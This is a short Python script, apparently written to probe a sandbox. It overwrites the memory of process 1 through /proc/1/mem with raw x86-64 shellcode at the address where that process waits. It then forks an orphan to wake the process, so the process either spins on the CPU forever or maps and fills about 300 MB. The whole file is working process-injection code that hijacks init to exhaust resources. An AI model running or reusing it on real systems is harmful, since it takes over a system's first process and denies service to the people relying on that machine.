"""Living on in the first process of a sandbox, whose memory belongs to the same user: x86-64 alone."""

from __future__ import annotations

import os
import struct
import sys
import time
from pathlib import Path

SPIN = b"\x48\xff\xc0\xeb\xfb"
"""inc rax; jmp: it computes without end."""

MOST_BYTES = 300 << 20


def filling(size: int) -> bytes:
    """Code that asks for memory, writes to each page of it, and then waits without end."""
    ask = b"\xb8\x09\x00\x00\x00\x31\xff\x48\xc7\xc6" + struct.pack("<I", size)  # mmap(0, size, ...
    ask += b"\xba\x03\x00\x00\x00\x41\xba\x22\x00\x00\x00\x49\xc7\xc0\xff\xff\xff\xff\x45\x31\xc9\x0f\x05"
    fill = b"\x48\xc7\xc1" + struct.pack("<I", size >> 12) + b"\xc6\x00\x01\x48\x05\x00\x10\x00\x00\x48\xff\xc9\x75\xf2"
    return ask + fill + b"\xf3\x90\xeb\xfc"


def take_over(code: bytes) -> str:
    """Have the first process run this when it wakes from waiting, and wake it."""
    words = Path("/proc/1/syscall").read_text().split()
    place = int(words[-1], 16)
    with Path("/proc/1/mem").open("r+b", buffering=0) as memory:
        memory.seek(place)
        memory.write(code)
    if os.fork() == 0:  # an orphan that ends: it falls to the first process
        if os.fork() == 0:
            time.sleep(0.01)
        os._exit(0)
    os.wait()
    return f"taken over at {place:#x}"


if __name__ == "__main__":
    try:
        done = take_over(SPIN if sys.argv[1] == "compute" else filling(MOST_BYTES))
    except (OSError, ValueError) as error:
        done = f"held {error}"
    print(done, flush=True)
    sys.stdin.read()
